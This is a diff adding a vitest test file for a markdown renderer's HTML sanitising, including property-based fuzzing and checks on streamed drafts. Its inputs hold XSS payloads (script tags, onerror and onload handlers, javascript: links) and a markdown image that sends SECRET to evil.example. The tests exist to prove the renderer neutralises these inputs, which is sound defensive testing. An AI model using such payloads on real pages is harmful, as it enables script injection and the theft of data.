@@ -1,0 +1,90 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { createDraft, renderMarkdown } from "../../../src/web/markdown.ts";
+
+describe("safe HTML", () => {
+  it("[WB1] raw HTML is shown as text", () => {
+    const html = renderMarkdown("<script>alert(1)</script>\n\n</script><img src=x onerror=alert(1)>\n\n`<b>`");
+    expect(html).not.toMatch(/<(script|img|b)/);
+    expect(html).toContain("&lt;script&gt;");
+  });
+
+  it("[WB1] links that run code lose their target, others open apart", () => {
+    expect(renderMarkdown("[x](javascript:alert(1))")).toBe("<p><a>x</a></p>");
+    expect(renderMarkdown("[x](data:text/html,hi)")).toBe("<p><a>x</a></p>");
+    expect(renderMarkdown("[x](https://example.com)")).toBe(
+      '<p><a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a></p>',
+    );
+  });
+
+  it("[WB2] a picture becomes a link that names its host", () => {
+    const html = renderMarkdown('![chart](https://evil.example/?q=SECRET "t") ![](//evil.example/x) ![z](javascript:x)');
+    expect(html).not.toContain("<img");
+    expect(html).toContain(">chart (evil.example)</a>");
+    expect(html).toContain(">picture (no address)</a>");
+  });
+
+  it("[WB1] tables, task lists and code survive", () => {
+    const html = renderMarkdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```js\nlet a = '<';\n```");
+    expect(html).toContain("<table>");
+    expect(html).toContain('type="checkbox"');
+    expect(html).toContain("<code class=\"language-js\">let a = '&lt;';");
+  });
+
+  it("[WB1] too long a text stays plain, and quick", () => {
+    const html = renderMarkdown("<b>*x* ".repeat(10_000));
+    expect(html.startsWith('<pre class="plain">&lt;b&gt;*x*')).toBe(true);
+  });
+
+  it("[SC4] whatever the text, only known tags come out and no handler or script address", () => {
+    const piece = fc.constantFrom(
+      "<img src=x onerror=1>",
+      "](",
+      "![",
+      "[",
+      "`",
+      '"',
+      "'",
+      "<a href=",
+      "javascript:",
+      "\n",
+      "|",
+      "https://a.b/",
+      ">",
+      "&#x22;",
+      "\\",
+      "onload=",
+      "*",
+      "~~",
+    );
+    fc.assert(
+      fc.property(fc.array(fc.oneof(piece, fc.string()), { maxLength: 30 }), (pieces) => {
+        const html = renderMarkdown(pieces.join(""));
+        for (const [tag] of html.matchAll(/<[^>]*>/g)) {
+          expect(tag).toMatch(/^<\/?(p|a|em|strong|del|code|pre|ul|ol|li|h[1-6]|blockquote|hr|br|table|thead|tbody|tr|th|td|input)\b/);
+          expect(tag.replace(/"[^"]*"/g, '""')).not.toMatch(/\son\w+=|<[^>]*</i);
+          expect(tag).not.toMatch(/href="\s*(javascript|data|vbscript):/i);
+        }
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
+
+describe("a growing draft", () => {
+  const text = "Intro *a*\n\n1. one\n\n   more of one\n\n2. two\n\n```js\nlet a;\n\nlet b;\n```\n\nThe **end** of it";
+
+  it("[AG4] shows the same as the whole text at the end, whatever the steps", () => {
+    const draft = createDraft();
+    for (let end = 0; end < text.length; end += 3) draft(text.slice(0, end));
+    const plain = (html: string) => html.replace(/<[^>]*>|\s/g, "");
+    expect(plain(draft(text))).toBe(plain(renderMarkdown(text)));
+    expect(draft(text)).toContain("let a;\n\nlet b;");
+  });
+
+  it("[AG4] starts over when the text is another one", () => {
+    const draft = createDraft();
+    draft("One\n\nTwo\n\nThree");
+    expect(draft("Else")).toBe("<p>Else</p>");
+  });
+});
